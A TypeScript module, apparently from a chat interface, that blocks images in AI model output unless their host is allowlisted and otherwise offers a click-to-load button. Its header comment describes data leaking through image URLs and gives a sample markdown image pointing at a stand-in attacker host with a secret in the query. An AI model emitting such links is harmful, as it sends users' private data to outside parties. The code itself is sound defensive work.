/**
 * Images in model output never load by themselves: a model can leak data through an image URL
 * (`![](https://evil.example/?q=secret)`), and merely showing it would send the request. Markdown
 * renders an empty placeholder per image (`span[data-src]`); {@link fillImages} turns it into the
 * image for hosts on the allowlist and into a click-to-load button for every other host.
 */
import { format, type PiStrings } from "./i18n.ts";

/** The host of an http(s) URL, or `undefined` for anything else. */
export function imageHost(url: string): string | undefined {
  try {
    const parsed = new URL(url);
    return parsed.protocol === "https:" || parsed.protocol === "http:"
      ? parsed.hostname
      : undefined;
  } catch {
    return undefined;
  }
}

/**
 * True when `host` is on the allowlist: an entry names a host exactly (`images.example.com`) or,
 * starting with `*.`, every subdomain of one (`*.example.com`).
 */
export function hostAllowed(host: string, allowlist: readonly string[]): boolean {
  const name = host.toLowerCase();
  return allowlist.some((entry) => {
    const rule = entry.trim().toLowerCase();
    return rule.startsWith("*.") ? name.endsWith(rule.slice(1)) : name === rule;
  });
}

function showImage(slot: HTMLElement, src: string, alt: string): void {
  const img = document.createElement("img");
  img.referrerPolicy = "no-referrer";
  img.loading = "lazy";
  img.alt = alt;
  img.src = src;
  slot.dataset.state = "loaded";
  slot.replaceChildren(img);
}

/**
 * Fills the image placeholders under `root`: the image itself for allowed hosts, else a button
 * that loads it on click. Run again after the allowlist or the language changed: blocked images
 * of newly allowed hosts load, and buttons are relabelled.
 */
export function fillImages(root: ParentNode, allowlist: readonly string[], s: PiStrings): void {
  for (const slot of root.querySelectorAll<HTMLElement>("[data-src]")) {
    if (slot.dataset.state === "loaded") continue;
    const src = slot.dataset.src ?? "";
    const alt = slot.dataset.alt ?? "";
    const host = imageHost(src) ?? "";
    if (hostAllowed(host, allowlist)) {
      showImage(slot, src, alt);
      continue;
    }
    const label = format(s.loadImage, { host });
    const shown = slot.querySelector("button");
    if (slot.dataset.state === "blocked" && shown !== null) {
      // Only the language may have changed.
      shown.textContent = label;
      continue;
    }
    slot.dataset.state = "blocked";
    const button = document.createElement("button");
    button.type = "button";
    button.className = "load-image";
    button.textContent = label;
    button.title = src;
    button.addEventListener("click", () => showImage(slot, src, alt), { once: true });
    const text = document.createElement("span");
    text.className = "alt";
    text.textContent = alt;
    slot.replaceChildren(...(alt ? [text, " "] : []), button);
  }
}
